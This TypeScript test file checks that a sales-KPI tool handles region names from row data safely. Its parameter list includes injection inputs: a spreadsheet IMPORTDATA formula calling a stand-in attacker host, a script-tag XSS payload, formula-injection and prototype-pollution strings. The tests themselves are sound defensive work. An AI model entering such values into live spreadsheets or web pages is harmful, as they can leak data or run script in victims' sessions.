import { kpis } from '../../src/kpis';
import { wayOf } from '../../src/kpis/declaration/slice';
import { kpiFromName } from '../../src/plan/kpi-name';
import { analysisOf } from '../kpis/asking';
import { rawTabOf } from '../raw-tab';

const header = 'Deal ID|Stage|Amount|Created|Close date|Owner|Region';
const stages = ['Won', 'Lost', 'Won', 'Open', 'Won', 'Lost'];

/** Deals of three regions, of which one is called so. */
const figuresOf = (name: string): (number | null)[] => {
  const rows = Array.from({ length: 36 }, (_, at): (string | number)[] => {
    const stage = stages[at % stages.length];
    const closed = stage === 'Open' ? '' : `2024-01-${String(10 + (at % 15)).padStart(2, '0')}`;
    return [`D${at}`, stage, 100 + at, '2024-01-02', closed, at % 2 ? 'Ann' : 'Bob', ['North', name, 'South'][at % 3]];
  });
  const analysis = analysisOf(rawTabOf('deals', header, rows), { asOf: '2024-01-31' });
  const asked = (typed: string): number | null => {
    const named = kpiFromName(`${typed} only region = ${name}`, kpis);
    if (!named) throw new Error(`no KPI: ${typed}, ${name}`);
    expect(wayOf(named.variant).only).toEqual({ by: 'region', is: name });
    return analysis.result(named.kpi.id, named.variant).value;
  };
  return [asked('win rate'), asked('sales per rep')];
};

const usual = figuresOf('Middle');

test.each([
  '=IMPORTDATA("https://evil.example/")',
  '+EVIL(1)',
  'West = East',
  'West, only region = North',
  'West only region = North',
  'only rep = Ann',
  'a, b; c: d',
  '"quoted" and \'quoted\'',
  '<script>alert(1)</script>',
  '{value} {kpi}',
  '$& $1 \\1',
  '%s gnp.exe',
  '__proto__',
  'constructor',
  'toString',
  'x'.repeat(500),
])('a part of the rows that is called %j has the figures of one of an ordinary name', (name) => {
  expect(figuresOf(name)).toEqual(usual);
});
